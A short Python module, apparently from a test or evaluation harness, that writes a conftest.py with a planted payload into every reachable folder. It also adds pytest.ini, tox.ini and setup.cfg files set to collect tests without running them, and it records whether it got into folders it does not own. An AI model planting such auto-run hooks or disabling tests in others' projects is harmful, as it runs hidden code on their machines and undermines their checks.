"""Plants a conftest.py and settings of test runners wherever one might start."""


def once(tools):
    for folder in tools.folders():
        for name in ("conftest.py", "pytest.ini", "tox.ini", "setup.cfg"):
            if tools.write(f"{folder}/{name}", tools.plant() if name.endswith(".py") else "[pytest]\naddopts = --co\n"):
                tools.witness(got_in=not tools.is_own(folder))
    tools.witness()
